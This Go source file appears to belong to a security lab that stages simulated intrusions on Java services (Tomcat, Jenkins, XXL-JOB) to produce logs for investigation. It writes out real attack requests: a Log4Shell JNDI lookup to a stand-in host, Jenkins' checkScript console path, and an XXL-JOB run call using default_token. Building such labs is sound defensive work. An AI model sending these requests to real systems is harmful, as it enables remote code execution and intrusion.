package lab

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
)

// javaEntries come in through a Java server. The lab's own plays them: when it is asked for the right thing it starts what
// its unit names, never what the request says.
var javaEntries = []Entry{
	{Name: "java-lookup", What: "a User-Agent with a lookup, which an application below Tomcat's unit logs", Cause: "java-web",
		Cites: []string{"inside", "trace"}, Logs: []string{"/var/log/tomcat10/catalina.out"},
		play: func(ctx context.Context, h *Host) error {
			return h.java(ctx, javaServer{unit: "tomcat10", user: "tomcat", jar: "/srv/app/shop.jar", log: "/var/log/tomcat10/catalina.out",
				trigger: "jndi:", run: payload, request: "curl -sS -A '${jndi:ldap://x.invalid/a}' http://" + HostV4 + ":8090/login"})
		}},
	{Name: "jenkins", What: "Jenkins' script console, which asks nobody who they are", Cause: "jenkins",
		Cites: []string{"inside", "account", "trace"}, Logs: []string{"/var/log/jenkins/access.log"},
		play: func(ctx context.Context, h *Host) error {
			return h.java(ctx, javaServer{unit: "jenkins", user: "jenkins", jar: "/usr/share/java/jenkins.war", log: "/var/log/jenkins/access.log",
				trigger: "checkScript", run: payload, request: "curl -sS 'http://" + HostV4 +
					":8090/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript'"})
		}},
	{Name: "xxl-job", What: "XXL-JOB's executor takes a GLUE script from whoever knows default_token", Cause: "xxl-job",
		Cites: []string{"inside"}, Logs: []string{"/data/applogs/xxl-job/executor.log"}, play: glue},
}

// javaServer is one that the lab's Java program stands in for.
type javaServer struct {
	unit, user, jar, log string
	port                 int // default 8090
	trigger, run         string
	request              string // script of the intruder's
}

func (h *Host) java(ctx context.Context, s javaServer) error {
	if s.port == 0 {
		s.port = 8090
	}
	jar, err := h.variant(ctx, "server.jar")
	if err != nil {
		return err
	}
	if err := h.CopyIn(ctx, jar, s.jar); err != nil {
		return err
	}
	unit := fmt.Sprintf("[Unit]\nDescription=%s\n\n[Service]\nUser=%s\nExecStart=/usr/bin/java -Xmx64m -jar %s %d %s %s \"%s\"\n",
		s.unit, s.user, s.jar, s.port, s.log, s.trigger, s.run)
	if err := h.lay(ctx, "/etc/systemd/system/"+s.unit+".service", unit); err != nil {
		return err
	}
	if _, err := h.sh(ctx, fmt.Sprintf("id %[1]s >/dev/null 2>&1 || useradd -r -s /usr/sbin/nologin %[1]s; install -d -o %[1]s %[2]s\n"+
		"systemctl daemon-reload; systemctl start %[3]s", s.user, filepath.Dir(s.log), s.unit)); err != nil {
		return err
	}
	if err := h.open(ctx, s.port); err != nil {
		return err
	}
	if err := h.listens(ctx, s.port); err != nil {
		return err
	}
	return h.outside(ctx, "", s.request+" >/dev/null")
}

// glue: the executor keeps the script that it was sent, and runs it.
func glue(ctx context.Context, h *Host) error {
	const script = "/data/applogs/xxl-job/jobhandler/gluesource/7_1763830000000.sh"
	if err := h.lay(ctx, script, "#!/bin/bash\n"+payload+"\n"); err != nil {
		return err
	}
	return h.java(ctx, javaServer{unit: "xxl-job-executor", user: "root", jar: "/opt/xxl-job/xxl-job-executor-2.4.0.jar",
		log: "/data/applogs/xxl-job/executor.log", port: 9999, trigger: "/run", run: "bash " + script,
		request: "curl -sS -X POST -H 'XXL-JOB-ACCESS-TOKEN: default_token' http://" + HostV4 + ":9999/run"})
}

// archive compiles the Java program into a jar.
func (h *Host) archive(ctx context.Context, out string) error {
	dir := out + ".d"
	defer os.RemoveAll(dir)
	if err := quietly(exec.CommandContext(ctx, "javac", "-d", dir, filepath.Join(h.Config.Source, "lab/scripts/Server.java"))); err != nil {
		return err
	}
	return quietly(exec.CommandContext(ctx, "jar", "cfe", out, "Server", "-C", dir, "."))
}
